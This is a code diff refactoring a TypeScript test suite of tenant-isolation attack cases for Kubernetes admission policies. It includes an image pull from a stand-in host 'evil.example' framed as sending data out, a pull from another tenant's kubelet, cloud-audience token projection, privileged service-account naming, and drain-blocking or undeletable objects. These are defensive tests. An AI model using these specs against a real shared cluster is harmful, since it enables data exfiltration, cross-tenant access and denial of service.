@@ -1,10 +1,8 @@
-import type { KubernetesObject } from '../../../../cluster/api';
+import { type Change, inContainer } from '../../../_change';
 import { pod } from '../../tenant-repository/_shop';
 import { accepted, asks, podObject } from '../_attempts';
 import { type Attack, type Letter, refused, through } from '../_types';
 import { inNamespace, type World } from '../_world';
-
-type Change = (spec: KubernetesObject['spec']) => void;
 
 const DRY = '?dryRun=All';
 
@@ -20,9 +18,7 @@ function isStored(name: string, title: string, lock: string, path: string, objec
 }
 
 function image(name: string, title: string, reference: string): Attack {
-  return isAdmitted('e', name, title, 'admission-images', (spec) => {
-    spec.containers[0].image = reference;
-  });
+  return isAdmitted('e', name, title, 'admission-images', inContainer({ image: reference }));
 }
 
 /** Secrets that the settings allow. */
@@ -32,8 +28,8 @@ const SECRETS = 3;
 export const SPECS: readonly Attack[] = [
   image('image-elsewhere', 'has its node send data out in the name of an image', 'evil.example/c2vjcmv0:k-data'),
   image('image-of-a-node', 'has its node ask the node of the other tenant for an image', '172.16.28.21:10250/x:1'),
-  isAdmitted('e', 'image-volume', 'mounts an image of any registry', 'admission-images', (spec) => {
-    spec.volumes = [{ name: 'data', image: { reference: 'evil.example/data:1' } }];
+  isAdmitted('e', 'image-volume', 'mounts an image of any registry', 'admission-images', {
+    volumes: [{ name: 'data', image: { reference: 'evil.example/data:1' } }],
   }),
   {
     name: 'image-anywhere',
@@ -51,21 +47,21 @@ export const SPECS: readonly Attack[] = [
       });
       const other = world.lab.api.as({ name: 'system:serviceaccount:flux-system:client-b' });
       const path = inNamespace(`pods${DRY}`, 'client-b-demo');
-      return accepted(await other.request('POST', path, JSON.stringify(podObject('image-anywhere', spec))));
+      return accepted(await other.request('POST', path, podObject('image-anywhere', spec)));
     },
   },
   isAdmitted('i', 'token-elsewhere', 'takes a token by which a cloud would know it', 'admission-tokens', (spec) => {
     const sources = [{ serviceAccountToken: { path: 't', audience: 'sts.amazonaws.com' } }];
     spec.volumes = [{ name: 't', projected: { sources } }];
   }),
-  isAdmitted('i', 'deprecated-account', 'names an account with rights by the old field', 'admission-pods', (spec) => {
-    spec.serviceAccount = 'client-a';
+  isAdmitted('i', 'deprecated-account', 'names an account with rights by the old field', 'admission-pods', {
+    serviceAccount: 'client-a',
   }),
   isStored('budget', 'lets none of its pods go', 'admission-drain', 'policy/v1:poddisruptionbudgets', {
     spec: { selector: {}, maxUnavailable: 0 },
   }),
-  isAdmitted('j', 'slow-end', 'has a pod that takes 68 years to end', 'admission-drain', (spec) => {
-    spec.terminationGracePeriodSeconds = 2_147_483_647;
+  isAdmitted('j', 'slow-end', 'has a pod that takes 68 years to end', 'admission-drain', {
+    terminationGracePeriodSeconds: 2_147_483_647,
   }),
   isStored('never-gone', 'keeps an object for ever by a finalizer', 'admission-finalizers', 'configmaps', {
     metadata: { name: 'never-gone', finalizers: ['example.com/never'] },
